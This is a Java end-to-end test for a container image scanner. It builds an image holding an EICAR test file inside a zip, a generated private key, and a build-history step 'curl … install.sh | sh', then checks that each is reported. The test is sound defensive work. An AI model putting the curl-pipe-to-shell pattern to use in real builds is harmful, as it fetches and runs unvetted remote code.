package io.mdis.standalone.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.mdis.fixtures.Clamd;
import io.mdis.fixtures.CraftedImage;
import io.mdis.fixtures.RealRegistry;
import io.mdis.fixtures.TarWriter;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.security.GeneralSecurityException;
import java.security.KeyPairGenerator;
import java.util.Base64;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** One image with something for every dimension, at the command line and through the services. */
class AllDimensionsE2E {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final List<String> DIMENSIONS =
      List.of("vulnerability", "malware", "history", "secret");

  @TempDir Path work;
  private String key;
  private CraftedImage image;

  @BeforeEach
  void make() throws Exception {
    Clamd.assumeAvailable();
    RealRegistry.assumeAvailable();
    key = privateKey();
    byte[] lower =
        HostileImages.alpineFiles()
            .file("opt/tools.zip", zipped("sub/eicar.txt", Clamd.EICAR))
            .file("srv/app/deploy.pem", key)
            .bytes();
    byte[] upper = new TarWriter().file("opt/.wh.tools.zip", "").bytes();
    image =
        CraftedImage.of(CraftedImage.Layer.plain(lower), CraftedImage.Layer.plain(upper))
            .madeBy(
                "/bin/sh -c #(nop) ADD file:0123456789ab in / ",
                "/bin/sh -c curl -s https://example.com/install.sh | sh && rm /opt/tools.zip");
  }

  @Test
  void theCommandLineTellsOfEach() throws Exception {
    try (Clamd clamd = Clamd.start();
        RealRegistry registry = RealRegistry.start()) {
      image.push(registry, "team/app", "1");
      Launcher.Outcome outcome =
          Launcher.run(
              work,
              "scan",
              "--db",
              Advisories.build(work).toString(),
              "--clamd",
              clamd.tcp(),
              "--plain-http",
              registry.host(),
              "--format",
              "json",
              registry.host() + "/team/app:1");
      assertThat(outcome.exitCode()).as(outcome.err()).isZero();
      JsonNode results = JSON.readTree(outcome.out()).path("results");
      assertThat(results.valueStream().map(one -> one.path("dimension").asText()))
          .containsExactlyElementsOf(DIMENSIONS);
      for (JsonNode result : results) {
        assertThat(result.path("status").asText()).as(result.toString()).isEqualTo("SUCCEEDED");
      }
      checkVirus(results.path(1).path("findings"));
      checkKey(results.path(3).path("findings"));
      assertThat(results.path(0).path("findings")).isNotEmpty();
      checkStep(results.path(2).path("findings"));
      assertThat(outcome.out()).doesNotContain(key.lines().skip(1).findFirst().orElseThrow());
    }
  }

  @Test
  void theServicesTellOfEach() throws Exception {
    try (Clamd clamd = Clamd.start();
        RealRegistry registry = RealRegistry.start()) {
      image.push(registry, "team/app", "1");
      List<String> options =
          List.of(
              "--data",
              work.resolve("data").toString(),
              "--db",
              Advisories.build(work).toString(),
              "--clamd",
              clamd.unix(),
              "--registry",
              registry.uri().toString());
      try (RunningServer server = RunningServer.start(work, 0, null, options)) {
        String body = "{\"reference\":\"" + registry.host() + "/team/app:1\"}";
        assertThat(server.send("POST", "/images", body).statusCode()).isEqualTo(202);
        for (String dimension : DIMENSIONS) {
          JsonNode found =
              server.await(
                  "/images/" + image.digest(),
                  one ->
                      !RunningServer.dimension(one, dimension)
                          .path("status")
                          .asText("PENDING")
                          .equals("PENDING"));
          JsonNode result = RunningServer.dimension(found, dimension);
          assertThat(result.path("status").asText()).as(result.toString()).isEqualTo("SUCCEEDED");
        }
        checkVirus(findings(server, "malware"));
        checkKey(findings(server, "secret"));
        checkStep(findings(server, "history"));
        assertThat(findings(server, "vulnerability")).isNotEmpty();
        assertThat(server.stop()).as("stops cleanly on SIGTERM").isIn(0, 143);
      }
    }
  }

  private JsonNode findings(RunningServer server, String dimension) throws IOException {
    return server
        .get("/images/" + image.digest() + "/findings?dimension=" + dimension)
        .path("findings");
  }

  /** In a zip of the lower layer that the upper one removes: told all the same, as shadowed. */
  private void checkVirus(JsonNode findings) {
    JsonNode virus =
        findings
            .valueStream()
            .filter(one -> one.path("id").asText().contains("Eicar-Test"))
            .findFirst()
            .orElseThrow(() -> new AssertionError("no virus in " + findings));
    assertThat(virus.path("path").asText()).isEqualTo("opt/tools.zip");
    assertThat(virus.path("layer").asText())
        .isEqualTo(image.layers().getFirst().diffId().toString());
    JsonNode details = virus.path("details");
    assertThat(details.path("member").asText()).endsWith("sub/eicar.txt");
    assertThat(details.path("visible").asText()).isEqualTo("false");
    assertThat(details.path("verdict").asText()).isEqualTo("SUSPECTED");
  }

  private void checkStep(JsonNode findings) {
    JsonNode step =
        findings
            .valueStream()
            .filter(one -> one.path("details").path("text").asText().contains("install.sh"))
            .findFirst()
            .orElseThrow(() -> new AssertionError("no download in " + findings));
    assertThat(step.path("layer").asText()).isEqualTo(image.layers().getLast().diffId().toString());
  }

  private static void checkKey(JsonNode findings) {
    JsonNode secret =
        findings
            .valueStream()
            .filter(one -> one.path("path").asText().equals("srv/app/deploy.pem"))
            .findFirst()
            .orElseThrow(() -> new AssertionError("no key in " + findings));
    assertThat(secret.path("details").path("visible").asText()).isEqualTo("true");
    assertThat(secret.path("details").path("secretHash").asText()).isNotEmpty();
  }

  private static byte[] zipped(String name, String content) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      zip.putNextEntry(new ZipEntry(name));
      zip.write(content.getBytes(StandardCharsets.ISO_8859_1));
    }
    return bytes.toByteArray();
  }

  private static String privateKey() throws GeneralSecurityException {
    byte[] der = KeyPairGenerator.getInstance("EC").generateKeyPair().getPrivate().getEncoded();
    return "-----BEGIN PRIVATE KEY-----\n"
        + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der)
        + "\n-----END PRIVATE KEY-----\n";
  }
}
